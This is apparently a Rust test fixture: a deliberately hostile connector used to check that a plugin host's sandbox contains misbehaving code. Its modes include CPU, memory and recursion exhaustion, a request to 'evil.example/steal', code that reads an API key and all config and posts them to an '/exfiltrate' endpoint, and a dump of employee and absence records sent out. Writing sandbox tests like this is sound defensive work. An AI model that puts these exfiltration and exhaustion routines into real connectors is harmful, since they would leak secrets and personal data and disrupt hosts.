//! A hostile connector for the host's sandbox tests. The `attack` config
//! value picks what it tries; each attempt must fail without harming the
//! host or the next run.

use lockgate_sdk::http::HttpError;
use lockgate_sdk::prelude::*;

struct Hostile;

fn spin() -> u64 {
    let mut n: u64 = 0;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
        if n == u64::MAX {
            return n;
        }
    }
}

fn recurse(depth: u64) -> u64 {
    if std::hint::black_box(depth) == u64::MAX {
        return 0;
    }
    recurse(depth + 1).wrapping_mul(3).wrapping_add(depth)
}

fn request(url: &str) -> Result<(), Error> {
    match http::get(url).send() {
        Ok(res) => Err(Error::other(format!(
            "request to {url} got through with status {}",
            res.status
        ))),
        Err(e @ HttpError::Denied(_)) => {
            // What the SDK tells the connector, for the tests to check.
            log::warn(&format!("sdk: {e}"));
            Err(Error::Unreachable(e.to_string()))
        }
        Err(e) => Err(Error::Unreachable(e.to_string())),
    }
}

impl Connector for Hostile {
    fn sync(_trigger: Trigger) -> Result<(), Error> {
        let attack = config::get("attack").unwrap_or_default();
        let target = config::require("target")?;
        match attack.as_str() {
            "none" => Ok(()),
            "loop" => Err(Error::other(format!("loop ended at {}", spin()))),
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![7u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "recursion" => Err(Error::other(format!("recursion ended at {}", recurse(0)))),
            "ungranted-host" => request("https://evil.example/steal"),
            // The target is granted, but what it resolves to may not be.
            "granted-host" => request(&format!("https://{target}/")),
            "plain-http" => request(&format!("http://{target}/")),
            "read-secret" => {
                // Try every way to read the secret, then send whatever was
                // found to the (granted) partner.
                let found = serde_json::json!({
                    "get": config::get("api-key"),
                    "all": config::all(),
                });
                let res = http::post(&format!("http://{target}/exfiltrate"))
                    .json(&found)?
                    .send()?;
                log::info(&format!("exfiltration answered {}", res.status));
                Ok(())
            }
            "flood" => {
                let mut rows = Outcomes::new();
                let mut n = 0u64;
                loop {
                    n += 1;
                    if let Err(e) = rows.push(Outcome::success(
                        &format!("e-{n}"),
                        Operation::Update,
                        "flood",
                    )) {
                        log::warn(&format!("host refused rows: {e}; flooding on"));
                    }
                }
            }
            "panic" => panic!("the connector gave up"),
            "dump" => {
                // Ask for everything; send what the host handed out.
                let employees: Vec<_> = hr::employees(EmployeeQuery::default())
                    .map(|e| e.map(|e| format!("{e:?}")))
                    .collect::<Result<_, _>>()?;
                // Ask far wider than the granted window.
                let absences: Vec<String> =
                    hr::absences(AbsenceQuery::between("1900-01-01", "2999-12-31"))
                        .map(|a| {
                            a.map(|a| {
                                format!(
                                    "{} {} {} {}",
                                    a.id, a.employee_id, a.start_date, a.end_date
                                )
                            })
                        })
                        .collect::<Result<_, _>>()?;
                let body = serde_json::json!({ "employees": employees, "absences": absences });
                http::post(&format!("http://{target}/dump"))
                    .json(&body)?
                    .send()?;
                Ok(())
            }
            "big-response" => {
                let res = http::get(&format!("http://{target}/big")).send()?;
                Err(Error::other(format!(
                    "read {} bytes past the cap",
                    res.body.len()
                )))
            }
            "redirect" => {
                // The host must hand the redirect back, not follow it.
                let res = http::get(&format!("http://{target}/redirect")).send()?;
                let location = res.header("location").unwrap_or("").to_string();
                log::info(&format!("redirect answered {} to {location}", res.status));
                Ok(())
            }
            "chatty" => {
                for i in 0..20_000 {
                    log::info(&format!("line {i}: {}", "x".repeat(80)));
                    println!("stdout line {i}: {}", "y".repeat(80));
                }
                Ok(())
            }
            "host-calls" => {
                // Cheap host calls, for measuring their cost.
                let count: u64 = config::get("count")
                    .and_then(|c| c.parse().ok())
                    .unwrap_or(0);
                let mut seen = 0usize;
                for _ in 0..count {
                    seen += config::get("target").map_or(0, |t| t.len());
                }
                std::hint::black_box(seen);
                Ok(())
            }
            other => Err(Error::config("attack", format!("unknown attack {other}"))),
        }
    }
}

lockgate_sdk::export_connector!(Hostile);
